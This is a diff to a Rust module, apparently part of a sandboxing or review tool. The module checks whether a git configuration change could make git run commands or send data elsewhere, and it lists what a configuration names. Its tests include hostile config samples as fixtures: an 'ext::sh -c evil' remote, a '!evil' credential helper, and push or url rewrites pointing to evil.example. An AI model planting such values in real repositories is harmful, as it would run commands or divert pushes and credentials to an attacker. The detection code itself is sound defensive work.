@@ -1,8 +1,9 @@
 //! Git configuration: whether a change of it can have git execute something, or send something elsewhere.
 //!
-//! The file is read as git reads it. Variables that are known to do neither are listed; every other one counts, and so does a file that cannot be read.
+//! The file is read as git reads it. Variables that are known to do neither are listed; every other one counts, and so does a file that cannot be read. A remote is a place that a
+//! person's next push goes to, so a new one counts, too. [`named`] says which files of the workspace a configuration makes git execute or read.
 
-use std::collections::BTreeSet;
+use std::collections::{BTreeMap, BTreeSet};
 
 use super::Held;
 
@@ -10,14 +11,13 @@ use super::Held;
 type Variable = (String, Option<String>, String, String);
 
 /// Sections all of whose variables are harmless.
-const HARMLESS_SECTIONS: [&str; 15] = [
+const HARMLESS_SECTIONS: [&str; 14] = [
     "advice",
     "author",
     "color",
     "column",
     "committer",
     "feature",
-    "format",
     "index",
     "log",
     "notes",
@@ -29,11 +29,10 @@ const HARMLESS_SECTIONS: [&str; 15] = [
 ];
 
 /// Single variables that are harmless, as section and name.
-const HARMLESS: [(&str, &str); 41] = [
+const HARMLESS: [(&str, &str); 40] = [
     ("branch", "description"),
     ("branch", "merge"),
     ("branch", "rebase"),
-    ("branch", "remote"),
     ("branch", "vscode-merge-base"),
     ("commit", "gpgsign"),
     ("commit", "status"),
@@ -58,6 +57,7 @@ const HARMLESS: [(&str, &str); 41] = [
     ("extensions", "objectformat"),
     ("extensions", "refstorage"),
     ("fetch", "prune"),
+    ("format", "pretty"),
     ("gc", "auto"),
     ("init", "defaultbranch"),
     ("merge", "conflictstyle"),
@@ -65,13 +65,16 @@ const HARMLESS: [(&str, &str); 41] = [
     ("pull", "ff"),
     ("pull", "rebase"),
     ("push", "autosetupremote"),
-    ("push", "default"),
     ("rebase", "autosquash"),
     ("rebase", "autostash"),
     ("remote", "fetch"),
     ("remote", "prune"),
     ("rerere", "enabled"),
 ];
+
+/// Variables whose values name no program, no directory of programs and no other configuration, beside the harmless ones.
+const NAMES_NOTHING: [&str; 10] =
+    ["branch", "extensions", "http", "lfs", "mailmap", "remote", "safe", "submodule", "url", "blame"];
 
 /// Whether git may do something else after the change that it could not be made to before.
 pub(super) fn takes_effect(before: Held<'_>, after: Held<'_>) -> bool {
@@ -83,17 +86,83 @@ pub(super) fn takes_effect(before: Held<'_>, after: Held<'_>) -> bool {
     };
     let Held::File(bytes) = after else { return after == Held::Unknown };
     let Some(new) = parse(bytes) else { return true };
-    let known: BTreeSet<&Variable> = old.iter().collect();
-    let had = |section: &str, subsection: &Option<String>, name: &str| {
-        old.iter().any(|(s, sub, n, _)| (s.as_str(), n.as_str()) == (section, name) && sub == subsection)
+    let remotes: BTreeSet<&str> = old
+        .iter()
+        .filter(|(section, _, name, _)| section == "remote" && name == "url")
+        .filter_map(subsection)
+        .collect();
+    let (old, new) = (by_name(&old), by_name(&new));
+    let is_new = new.iter().any(|(name, values)| {
+        let had = old.get(name).map(Vec::as_slice).unwrap_or_default();
+        had != values.as_slice() && values.iter().any(|value| counts(*name, value, &remotes))
+    });
+    is_new || old.keys().any(|name| !new.contains_key(name) && counts_when_gone(*name))
+}
+
+/// Section, subsection and name of a variable.
+type Name<'a> = (&'a str, Option<&'a str>, &'a str);
+
+fn subsection((_, subsection, _, _): &Variable) -> Option<&str> {
+    subsection.as_deref()
+}
+
+/// The values of each variable in order: of several, git takes the last or all of them.
+fn by_name(variables: &[Variable]) -> BTreeMap<Name<'_>, Vec<&str>> {
+    let mut names: BTreeMap<Name<'_>, Vec<&str>> = BTreeMap::new();
+    for (section, subsection, name, value) in variables {
+        names.entry((section, subsection.as_deref(), name)).or_default().push(value);
+    }
+    names
+}
+
+fn is_harmless(section: &str, name: &str) -> bool {
+    HARMLESS_SECTIONS.contains(&section) || HARMLESS.contains(&(section, name))
+}
+
+/// Whether a value that is new may have git execute something or send something elsewhere; `remotes` are those that there were.
+fn counts((section, _, name): Name<'_>, value: &str, remotes: &BTreeSet<&str>) -> bool {
+    match (section, name) {
+        // Where there is one remote, git pushes there without being told. Of several, this chooses one.
+        ("branch", "remote") => value != "." && !(remotes.len() == 1 && remotes.contains(value)),
+        (section, name) => !is_harmless(section, name),
+    }
+}
+
+/// Whether git may do something else because a variable is gone: what replaced an address, or a directory of hooks, does so no more.
+fn counts_when_gone((section, _, name): Name<'_>) -> bool {
+    match (section, name) {
+        ("branch" | "alias" | "submodule", _) => false,
+        ("remote", name) => name == "pushurl",
+        (section, name) => !is_harmless(section, name),
+    }
+}
+
+/// What a configuration names.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(super) enum Named {
+    /// Another configuration.
+    Configuration(String),
+    /// A directory of programs that git executes.
+    Hooks(String),
+    /// A command that git has a shell carry out.
+    Command(String),
+    /// Where the working tree is.
+    WorkingTree(String),
+}
+
+/// All that a configuration names; nothing if git would not read it.
+pub(super) fn named(bytes: &[u8]) -> Vec<Named> {
+    let named = |(section, _, name, value): Variable| match (section.as_str(), name.as_str()) {
+        ("include" | "includeif", "path") => Some(Named::Configuration(value)),
+        ("core", "hookspath") | ("init", "templatedir") => Some(Named::Hooks(value)),
+        ("core", "worktree") => Some(Named::WorkingTree(value)),
+        ("core", "excludesfile") | ("commit", "template") => None,
+        // Another word for one of git's own commands.
+        ("alias", _) if !value.starts_with('!') => None,
+        (section, name) if is_harmless(section, name) || NAMES_NOTHING.contains(&section) => None,
+        _ => Some(Named::Command(value)),
     };
-    new.iter().filter(|variable| !known.contains(variable)).any(|(section, subsection, name, value)| {
-        match (section.as_str(), name.as_str()) {
-            // A remote that is new sends nothing by itself; one that leads elsewhere now takes what was meant for another.
-            ("remote", "url") => had("remote", subsection, "url") || value.contains("::"),
-            (section, name) => !HARMLESS_SECTIONS.contains(&section) && !HARMLESS.contains(&(section, name)),
-        }
-    })
+    parse(bytes).unwrap_or_default().into_iter().filter_map(named).collect()
 }
 
 /// Reads a configuration file; `None` if git would not.
@@ -259,8 +328,7 @@ mod tests {
         assert!(!takes_effect(Held::Nothing, Held::File(NEW.as_bytes())), "a repository that was made");
         for harmless in [
             "[user]\n\tname = Ada\n",
-            "[remote \"origin\"]\n\turl = https://example.org/a.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n",
-            "[branch \"main\"]\n\tremote = origin\n\tmerge = refs/heads/main\n",
+            "[branch \"main\"]\n\tremote = .\n\tmerge = refs/heads/main\n",
             "[commit]\n\tgpgsign = false\n",
         ] {
             assert!(!effect(NEW, &format!("{NEW}{harmless}")), "{harmless}");
@@ -277,6 +345,15 @@ mod tests {
             "[credential]\n\thelper = !evil\n",
             "[url \"https://evil.example/\"]\n\tinsteadOf = https://example.org/\n",
             "[remote \"origin\"]\n\turl = ext::sh -c evil\n",
+            "[remote \"backup\"]\n\turl = https://evil.example/a.git\n\tfetch = +refs/heads/*:refs/remotes/backup/*\n",
+            "[branch \"main\"]\n\tremote = https://evil.example/a.git\n",
+            "[branch \"main\"]\n\tremote = backup\n",
+            "[branch \"main\"]\n\tpushRemote = backup\n",
+            "[remote]\n\tpushDefault = backup\n",
+            "[push]\n\tdefault = matching\n",
+            "[credential \"https://example.org\"]\n\thelper = store\n",
+            "[url \"https://evil.example/\"]\n\tpushInsteadOf = https://example.org/\n",
+            "[format]\n\tto = eve@evil.example\n",
             "[remote \"origin\"]\n\tpushurl = https://evil.example/\n",
             "[a-section-nobody-knows]\n\tx = y\n",
             "[core\n",
@@ -287,5 +364,34 @@ mod tests {
         assert!(!effect(&with, &with), "what was there before is not this run's");
         assert!(effect(&with, &with.replace("url = a", "url = b")), "what was meant for one place goes to another");
         assert!(takes_effect(Held::Nothing, Held::Unknown));
+    }
+
+    #[test]
+    fn a_push_goes_where_it_went_before() {
+        let one = format!("{NEW}[remote \"origin\"]\n\turl = https://example.org/a\n");
+        let two = format!("{one}[remote \"public\"]\n\turl = https://example.org/b\n");
+        let tracks = |remote: &str| format!("[branch \"x\"]\n\tremote = {remote}\n\tmerge = refs/heads/x\n");
+        assert!(!effect(&one, &format!("{one}{}", tracks("origin"))), "the only remote there is");
+        assert!(effect(&two, &format!("{two}{}", tracks("public"))), "one of several");
+        assert!(effect(&one, &format!("{two}{}", tracks("origin"))), "a new remote");
+        assert!(effect(&one, &one.replace("example.org", "evil.example")));
+        let tracking = format!("{one}{}", tracks("origin"));
+        assert!(!effect(&tracking, &one), "a branch that is gone");
+        let rewritten = format!("{one}[url \"https://mirror.example/\"]\n\tinsteadOf = https://example.org/\n");
+        assert!(effect(&rewritten, &one), "an address that is replaced no more");
+    }
+
+    #[test]
+    fn what_a_configuration_names_is_found() {
+        let text = "[core]\n\thooksPath = tools/my hooks\n\teditor = vi\n\tworktree = ../x\n[include]\n\tpath = ../more\n[filter \"x\"]\n\tclean = tools/clean.sh %f\n[alias]\n\tl = log --oneline\n\
+                    [remote \"o\"]\n\turl = ./other\n[user]\n\tname = docs\n";
+        let expected = [
+            Named::Hooks("tools/my hooks".to_owned()),
+            Named::Command("vi".to_owned()),
+            Named::WorkingTree("../x".to_owned()),
+            Named::Configuration("../more".to_owned()),
+            Named::Command("tools/clean.sh %f".to_owned()),
+        ];
+        assert_eq!(named(text.as_bytes()), expected);
     }
 }
